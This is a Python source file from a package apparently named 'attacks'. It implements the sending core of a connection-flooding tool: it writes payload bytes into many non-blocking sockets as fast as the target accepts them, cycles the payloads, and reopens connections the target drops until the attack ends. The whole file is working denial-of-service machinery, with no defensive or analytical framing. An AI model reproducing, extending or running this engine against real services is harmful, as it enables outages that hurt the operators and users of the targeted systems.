"""Bytes into many connections at once, as fast as they are taken: what most attacks come down to."""

from __future__ import annotations

import socket
import ssl
import time
from collections import deque
from collections.abc import Callable, Iterator, Sequence

from attacks.target import Progress, Target

_AT_ONCE = 65_536
_WAIT = (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError)


class Stream:
    """One connection, and what is to go into it; `parts` are written one by one, a record each."""

    def __init__(self, link: socket.socket, parts: Sequence[bytes], *, again: bool = True) -> None:
        link.setblocking(False)
        self.link = link
        self._parts = parts
        self._again = again
        self._next = 0
        self._rest = memoryview(b"")

    @property
    def is_done(self) -> bool:
        return not self._rest and self._next >= len(self._parts) and not self._again

    def push(self, most: int) -> int:
        """Write what is taken now, at most so many parts. Raises OSError."""
        sent = 0
        for _ in range(most):
            if not self._rest:
                if self._next >= len(self._parts):
                    if not self._again:
                        break
                    self._next = 0
                self._rest = memoryview(self._parts[self._next])
                self._next += 1
            try:
                count = self.link.send(self._rest[:_AT_ONCE])
            except _WAIT:
                break
            self._rest = self._rest[count:]
            sent += count
        return sent

    def drain(self) -> bool:
        """Read what is there; whether the other side goes on."""
        try:
            while more := self.link.recv(_AT_ONCE):
                if len(more) < 16_384:
                    return True
        except _WAIT:
            return True
        except OSError:
            return False
        return False


def pour(
    target: Target,
    progress: Progress,
    streams: Sequence[Stream],
    *,
    reads: bool = True,
    open_again: Callable[[], Stream] | None = None,
) -> None:
    """Until the attack is over or nothing is left. With `open_again`, what was ended is begun again."""
    left = deque(streams)
    parts = 64 if len(left) <= 4 else 8
    while left and target.lasts():
        idle = True
        for _ in range(len(left)):
            stream = left.popleft()
            try:
                sent = stream.push(parts)
                goes_on = not reads or stream.drain()
            except OSError:
                sent, goes_on = 0, False
            if sent:
                idle = False
                progress.add(sent=sent)
            if goes_on:
                left.append(stream)
                continue
            stream.link.close()
            left.extend(_opened(open_again, progress))
        if idle:
            time.sleep(0.002)


def _opened(open_again: Callable[[], Stream] | None, progress: Progress) -> Iterator[Stream]:
    if open_again is not None:
        try:
            yield open_again()
        except OSError:
            return
        progress.add(links=1)
